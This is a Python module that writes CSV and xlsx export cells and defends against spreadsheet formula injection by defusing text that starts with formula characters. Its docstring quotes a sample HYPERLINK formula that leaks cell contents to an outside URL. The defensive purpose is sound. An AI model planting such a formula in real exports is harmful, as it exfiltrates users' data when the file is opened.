"""Every cell the portal writes into a download, CSV or xlsx, is written here.

A spreadsheet takes a cell as a formula when its text starts with = + - @ (some also after
a leading TAB or CR): a 科目名称 of `=HYPERLINK("http://…?leak="&A1,"点击查看")` would run
when the file is opened. Text comes from departments' workbooks and names, so:

- CSV: a text cell starting with one of FORMULA_STARTS gets an apostrophe first (OWASP's
  advice; the spreadsheet shows the text). Numbers stay numbers: a Decimal with two
  decimals, an int as is. A negative amount (-12.50) is a number, never altered; the same
  characters as text ("-12.50" as a str) are defused like any text.
- xlsx: text goes into a string cell (data_type "s"), never a formula, whatever it starts
  with; characters an XML part cannot hold are dropped (openpyxl would refuse the cell).

So callers hand values as they are (str, Decimal, int, None), not formatted: the type says
whether a cell is text or a number. The table CSV, the year's figures CSV (api.bulk), the
board CSV, and every workbook (a table, a whole version, the blank template) use these.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Iterator, Sequence
from decimal import Decimal

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

BOM = "\ufeff"  # so that Excel reads the CSV as UTF-8
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_number(value) -> bool:
    return isinstance(value, (int, float, Decimal)) and not isinstance(value, bool)


def csv_cell(value) -> str:
    """One CSV cell: "" for None, a number as digits, text defused."""
    if value is None:
        return ""
    if isinstance(value, Decimal):
        return f"{value:.2f}"
    if is_number(value):
        return str(value)
    text = str(value)
    return f"'{text}" if text.startswith(FORMULA_STARTS) else text


class _Line:
    """A file whose write() hands back what it was given: csv writes one row, we yield it."""

    def write(self, text: str) -> str:
        return text


def csv_lines(rows: Iterable[Sequence]) -> Iterator[str]:
    """The CSV text of `rows`, one line at a time (for streaming), the BOM before the first."""
    writer = csv.writer(_Line())
    prefix = BOM
    for row in rows:
        yield prefix + writer.writerow([csv_cell(value) for value in row])
        prefix = ""


def csv_text(rows: Iterable[Sequence]) -> str:
    return "".join(csv_lines(rows))


def put(cell, value):
    """Set an openpyxl cell: None empty, a number as a number, anything else as a string
    cell, never a formula. Returns the cell (to style it)."""
    if value is None or is_number(value):
        cell.value = value
    else:
        cell.value = ILLEGAL_CHARACTERS_RE.sub("", str(value))
        cell.data_type = "s"  # openpyxl made text starting with "=" a formula
    return cell


def write(sheet, row: int, column: int, value):
    """`put` into the sheet's cell at (row, column); returns the cell."""
    return put(sheet.cell(row, column), value)
